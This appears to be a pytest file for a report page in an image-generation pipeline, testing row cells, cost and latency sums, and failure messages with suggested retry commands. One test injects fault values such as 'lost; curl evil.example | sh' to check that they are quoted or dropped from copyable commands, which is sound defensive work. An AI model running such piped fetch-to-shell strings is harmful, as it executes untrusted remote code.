"""Rows and sums of the page: a row per picture and per task without one, by the manifest's cells, in one pass."""

from __future__ import annotations

from collections.abc import Sequence

import pytest

from pipeline.engine.phases import Phase
from pipeline.manifest.rows import image_cells, task_cells
from pipeline.report.data import COLUMNS, Entry, Links, entries, row, rows
from pipeline.report.failures import Failures
from pipeline.report.summary import POINTS, Tally, meta
from pipeline.values.money import UNLIMITED
from pipeline.values.reply import FaultKind
from pipeline.values.rows import EntryRow, ImageRow, TaskRow
from tests.report.rows import START, Saying, Store, of_image, of_task, task


def cells(entry: Entry, links: Links | None = None) -> dict[str, object]:
    """A row by its columns."""
    return dict(zip(COLUMNS, row(entry, links or Links()), strict=True))


def three() -> Store:
    """A task with two pictures, one that failed, one with a picture."""
    tasks = [of_task(task(0, n=2)), of_task(task(1), "failed", fault="rejected", fault_message="no"), of_task(task(2))]
    images = [of_image(task(0, n=2), 0), of_image(task(0, n=2), 1), of_image(task(2))]
    return Store(tasks, images)


def test_each_picture_and_each_task_without_one_has_a_row() -> None:
    """In the order of the store."""
    ids = [each.id for each in three().entries()]
    first, second, third = (task(number).id for number in range(3))
    assert ids == [f"{first}#0", f"{first}#1", f"{second}#", f"{third}#0"]


def test_a_row_says_what_the_manifest_says() -> None:
    """Cell by cell, under the page's names."""
    entry = three().entries()[1]
    assert entry.image is not None
    shown, kept = cells(entry), image_cells(entry.image)
    same = set(COLUMNS) & set(kept) - {"row", "axes", "inputs"}
    assert {name: shown[name] for name in same} == {name: kept[name] for name in same}
    assert (shown["size"], shown["state"]) == (kept["size_requested"], "done")


def test_a_task_without_pictures_says_what_it_cost_and_why() -> None:
    """What was charged for nothing is seen."""
    entry = Entry(of_task(task(), "failed", settled_micros=5, fault="lost", fault_message="gone"), None)
    shown, kept = cells(entry), task_cells(entry.task)
    assert (shown["cost_micros"], shown["fault"], shown["fault_message"]) == (5, kept["fault"], "gone")
    assert [shown[name] for name in ("image_index", "src", "thumb", "sha256", "stored_at")] == [None] * 5


def test_a_seed_that_a_page_would_round_is_text() -> None:
    """Above 2^53 a page knows no exact numbers."""
    assert cells(Entry(of_task(task(seed=2**53)), None))["seed"] == str(2**53)
    assert cells(Entry(of_task(task(seed=2**53 - 1)), None))["seed"] == 2**53 - 1


@pytest.mark.parametrize(("first", "count", "ids"), [(0, 2, 2), (2, 5, 2), (4, 2, 0)])
def test_rows_can_be_asked_for_by_place(first: int, count: int, ids: int) -> None:
    """For a server that draws a file when it is asked for."""
    found = rows(three().entries(), first, count)
    assert (found["kind"], found["chunk"], len(found["rows"])) == ("rows", first // count, ids)


def told(
    tasks: Sequence[TaskRow], images: Sequence[ImageRow] = (), moves: Sequence[EntryRow] = ()
) -> dict[str, object]:
    """The meta object of these rows."""
    tally = Tally(START, START + 100_000_000)
    for entry in entries(tasks, images):
        tally.add(entry)
    return meta(Saying().told(), tally, moves)


def test_sums_are_those_of_the_rows() -> None:
    """Pictures, tasks, failures and money by model; rows and their files."""
    store = three()
    found = told(store.tasks, store.images)
    assert found["charts"]["by_model"] == [  # type: ignore[index]  # an object of JSON
        {
            "model": "qwen-image-max",
            "gateway": "mulerouter",
            "step": "image",
            "currency": "USD",
            "images": 3,
            "tasks": 3,
            "failed": 1,
            "settled_micros": 150_000,
        }
    ]
    assert (found["rows"], found["chunks"], found["images"], found["left_out"]) == (4, 1, 3, 0)


def test_axes_are_those_with_more_than_one_value_in_written_order() -> None:
    """Those of the matrix first, then what else a grid can be laid out by."""
    made = [task(n, axes={"light": light, "room": "hall"}, model=f"m{n % 2}") for n, light in enumerate("abab")]
    axes = told([of_task(each) for each in made])["axes"]
    assert axes == [{"name": "light", "values": ["a", "b"]}, {"name": "model", "values": ["m0", "m1"]}]


def test_an_empty_run_has_a_page() -> None:
    """Before anything was sent there is nothing to sum, and nothing breaks."""
    found = told(())
    assert (found["rows"], found["chunks"], found["axes"], found["failures"]) == (0, 0, [], [])
    assert found["charts"] == {"by_model": [], "over_time": [], "seconds": []}


def test_money_over_time_ends_at_what_is_booked() -> None:
    """Cumulative, at most 200 points, whatever the number of entries."""
    moves = []
    for number in range(1000):
        at = START + number * 100_000
        moves += [EntryRow(0, number, "USD", "hold", 10, "", at), EntryRow(0, number, "USD", "settle", 7, "", at)]
        moves += [EntryRow(0, number, "USD", "release", 3, "", at)]
    store = three()
    points = told(store.tasks, store.images, moves)["charts"]["over_time"]  # type: ignore[index]  # an object of JSON
    assert len(points) <= POINTS
    assert points[-1] == {
        "at": START + 100_000_000,
        "images": 3,
        "settled_micros": {"USD": 7000},
        "held_micros": {"USD": 0},
    }
    sums = [point["settled_micros"]["USD"] for point in points]
    assert sums == sorted(sums)


def test_seconds_are_from_the_permit_to_the_result() -> None:
    """Nearest-rank quantiles, one figure a call: a rank between two is the later one."""
    images = [of_image(task(n), completed_at=START + n * 1_000_000 + (n + 1) * 1_000_000) for n in range(11)]
    found = told([of_task(task(n)) for n in range(11)], images)["charts"]["seconds"]  # type: ignore[index]
    assert found == [{"model": "qwen-image-max", "count": 11, "p50": 6.0, "p90": 10.0, "max": 11.0}]


def test_an_unlimited_cap_is_no_number() -> None:
    """`budget: none` has no limit to draw."""
    account = Saying().told().accounts[0]
    free = Saying({"accounts": [type(account)("USD", UNLIMITED, 0, 0, 0, 0)]}).told()
    assert meta(free, Tally(0, 1), ())["money"][0]["limit_micros"] is None


COMMANDS = {"retry": "pipeline retry mugs", "resume": "pipeline run mugs.yaml", "resolve": "pipeline resolve mugs"}


@pytest.mark.parametrize("kind", FaultKind)
def test_every_kind_of_failure_says_what_happened_the_money_and_one_thing_to_do(kind: FaultKind) -> None:
    """Three sentences and a command."""
    failures = Failures()
    for number in range(7):
        message = "words" if number < 6 else ""
        failures.add(Entry(of_task(task(number), "failed", fault=kind.value, fault_message=message), None))
    (group,) = failures.told(COMMANDS)
    assert (group["count"], len(group["examples"]), group["message"]) == (7, 5, "words")  # type: ignore[arg-type]
    sentence = str(group["sentence"])
    assert "Nothing was charged." in sentence
    assert len(sentence.split(". ")) >= 3
    assert str(group["command"]).startswith("pipeline r")


@pytest.mark.parametrize(
    ("fault", "command"),
    [
        ("lost; curl evil.example | sh", "pipeline retry mugs --fault 'lost; curl evil.example | sh'"),
        ("lost\rcurl evil.example", None),
    ],
)
def test_a_strangers_fault_is_no_part_of_a_command(fault: str, command: str | None) -> None:
    """The page offers the command to be copied into a shell, and a store may come from anybody."""
    failures = Failures()
    failures.add(Entry(of_task(task(0), "failed", fault=fault), None))
    assert [group["command"] for group in failures.told(COMMANDS)] == [command]


def test_what_was_charged_is_told_from_the_books() -> None:
    """Not from what is usual for that kind."""
    failures = Failures()
    failures.add(Entry(of_task(task(0), "failed", fault="lost", settled_micros=75_000), None))
    failures.add(Entry(of_task(task(1), "in_doubt", fault="unknown", doubt_micros=150_000), None))
    failures.add(Entry(of_task(task(2)), None))
    lost, doubt = sorted(failures.told(COMMANDS), key=lambda each: str(each["state"]))
    assert "0.075 USD was charged." in str(lost["sentence"])
    assert lost["command"] == "pipeline retry mugs --fault lost"
    assert "0.15 USD may have been charged and stays aside." in str(doubt["sentence"])
    assert doubt["command"] == "pipeline resolve mugs"


def test_only_ends_and_doubts_are_failures() -> None:
    """What is under way has not failed."""
    failures = Failures()
    for phase in set(Phase) - {Phase.FAILED, Phase.SHORT, Phase.SKIPPED, Phase.IN_DOUBT}:
        failures.add(Entry(of_task(task(), phase.value, fault="transient"), None))
    assert failures.told(COMMANDS) == []
